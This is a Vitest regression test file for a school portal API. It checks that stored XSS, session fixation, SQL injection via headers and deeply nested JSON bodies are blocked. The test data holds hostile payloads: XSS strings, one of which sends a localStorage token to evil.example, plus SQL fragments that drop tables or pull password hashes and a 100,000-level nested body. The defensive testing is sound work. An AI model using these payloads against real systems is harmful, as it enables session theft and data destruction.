import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from './support.ts';

// Regression tests for the classes of flaw school portals keep shipping: stored XSS in
// free text, session fixation, and request headers reaching SQL. (Sign-in limits, token
// hashing, expiry and logout live in modules/users/test/auth.test.ts; the route × role
// matrix, hostile bodies and the franchisee fence in permission-matrix, fuzz and isolation.)
let t: TestApp;
let yearId: number;
let classId: number;
const A = 'franchisee-a@demo.school';
const PAYLOADS = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/`+localStorage.token)">',
  '"><svg/onload=alert(1)>',
  "javascript:alert('x')",
];

beforeAll(async () => {
  t = await startTestApp();
  yearId = (await t.as(A, { method: 'GET', url: '/api/franchiseeAcademicYears?isCurrentAcademicYear=true' })).json()
    .rows[0].id;
  classId = (
    (await t.as(A, { method: 'GET', url: '/api/class?pageSize=50' })).json().rows as { id: number; name: string }[]
  ).find((c) => c.name === 'Nursery')!.id;
});
afterAll(() => t.close());

describe('stored XSS', () => {
  it('stores markup in free text as given and only ever answers it as JSON', async () => {
    for (const [i, remarks] of PAYLOADS.entries()) {
      const created = await t.as(A, {
        method: 'POST',
        url: '/api/enquiry',
        academicYearId: yearId,
        payload: {
          academicYearId: yearId,
          classId,
          source: 'Walk-in',
          parentName: 'Ravi Kumar',
          childName: 'Anvi Kumar',
          mobile: `98450${String(70000 + i)}`,
          remarks,
        },
      });
      expect(created.statusCode, created.body).toBe(201);
      const id = created.json().id;
      for (const url of [`/api/enquiry/${id}`, `/api/enquiry?q=Anvi&pageSize=50&fields=remarks`]) {
        const res = await t.as(A, { method: 'GET', url });
        expect(res.headers['content-type']).toMatch(/^application\/json/);
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.body).toContain(JSON.stringify(remarks).slice(1, -1));
      }
    }
  });

  it('exports free text as a CSV attachment, never as a page', async () => {
    const res = await t.as(A, { method: 'GET', url: '/api/enquiry/export?format=csv&q=Anvi' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).not.toMatch(/html/);
    expect(res.headers['content-disposition']).toMatch(/^attachment/);
  });

  it('sends a CSP that forbids inline and injected scripts on every answer', async () => {
    for (const url of ['/api/health', '/api/enquiry', '/no-such-page', '/api/no-such-route']) {
      const res = await t.app.inject({ method: 'GET', url });
      const csp = String(res.headers['content-security-policy']);
      const script = /script-src ([^;]+)/.exec(csp)?.[1] ?? /default-src ([^;]+)/.exec(csp)![1];
      expect(script.trim()).toBe("'self'");
      expect(csp).not.toMatch(/unsafe-inline[^;]*;?\s*$|script-src[^;]*unsafe/);
      expect(csp).toContain("object-src 'none'");
      expect(csp).toContain("base-uri 'self'");
      expect(res.headers['content-type']).not.toMatch(/html/);
    }
  });
});

describe('session fixation', () => {
  const chosen = 'attacker-chosen-token-0123456789abcdef0123456789abcdef';

  it('never promotes a token presented before sign-in', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      headers: { authorization: `Bearer ${chosen}` },
      payload: { username: A, password: 'Demo@12345' },
    });
    expect(res.statusCode).toBe(200);
    const issued = res.json().token as string;
    expect(issued).not.toBe(chosen);
    expect(issued.length).toBeGreaterThanOrEqual(32);
    expect(
      (await t.app.inject({ method: 'GET', url: '/api/admin/me', headers: { authorization: `Bearer ${chosen}` } }))
        .statusCode,
    ).toBe(401);
    expect(
      (await t.app.inject({ method: 'GET', url: '/api/admin/me', headers: { authorization: `Bearer ${issued}` } }))
        .statusCode,
    ).toBe(200);
  });

  it('gives a signed-in user who signs in again a new token, not the one they hold', async () => {
    const first = await t.token('franchisee-b@demo.school');
    const again = await t.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      headers: { authorization: `Bearer ${first}` },
      payload: { username: 'franchisee-b@demo.school', password: 'Demo@12345' },
    });
    expect(again.json().token).not.toBe(first);
  });
});

describe('headers written into SQL', () => {
  const fragments = [
    '2; drop table enquiries; --',
    "2' or '1'='1",
    '1 union select password_hash from admin_users',
    '0x02',
    '-1',
    '99999999999999999999',
  ];

  it('ignores x-franchisee-id and x-academic-year-id that are not plain ids', async () => {
    const baseline = (await t.as(A, { method: 'GET', url: '/api/enquiry?pageSize=200' })).json().count;
    for (const value of fragments) {
      const res = await t.as(A, {
        method: 'GET',
        url: '/api/enquiry?pageSize=200&fields=franchiseeId',
        headers: { 'x-franchisee-id': value, 'x-academic-year-id': value },
      });
      expect(res.statusCode, value).toBe(200);
      expect(res.json().count).toBe(baseline);
      expect(res.json().rows.every((r: { franchiseeId: number }) => r.franchiseeId === 2)).toBe(true);
    }
  });

  it('stores a hostile user-agent as text and leaves the tables alone', async () => {
    const agent = "Mozilla/5.0'); delete from sessions; drop table admin_users; --";
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      headers: { 'user-agent': agent },
      payload: { username: A, password: 'Demo@12345' },
    });
    expect(res.statusCode).toBe(200);
    const rows = (await t.db.db.execute(
      sql`select user_agent from sessions where user_agent = ${agent}`,
    )) as unknown as { rows: unknown[] };
    expect(rows.rows).toHaveLength(1);
    const users = (await t.db.db.execute(sql`select count(*)::int as n from admin_users`)) as unknown as {
      rows: { n: number }[];
    };
    expect(users.rows[0].n).toBeGreaterThan(5);
    expect(
      (
        await t.app.inject({
          method: 'GET',
          url: '/api/admin/me',
          headers: { authorization: `Bearer ${res.json().token}`, 'user-agent': agent },
        })
      ).statusCode,
    ).toBe(200);
  });
});

describe('deeply nested bodies', () => {
  const deep = (levels: number) => '{"a":'.repeat(levels) + '1' + '}'.repeat(levels);

  it('refuses a body nested 100,000 levels with a 400 and a message, signed in or not', async () => {
    for (const [email, url] of [
      ['superadmin@demo.school', '/api/class'],
      [null, '/api/public/enquiry-form/2'],
    ] as const) {
      const res = await t.as(email, {
        method: 'POST',
        url,
        headers: { 'content-type': 'application/json' },
        payload: deep(100_000),
      });
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json().message).toMatch(/nested too deeply/);
    }
    expect((await t.app.inject({ method: 'GET', url: '/api/health' })).statusCode).toBe(200);
  });

  it('lets a body nest as deep as a form needs', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/public/enquiry-form/2',
      headers: { 'content-type': 'application/json' },
      payload: deep(40),
    });
    // Past the guard: the form's own schema answers for what the body lacks.
    expect(res.statusCode).toBe(400);
    expect(res.json().message).not.toMatch(/nested too deeply/);
  });
});
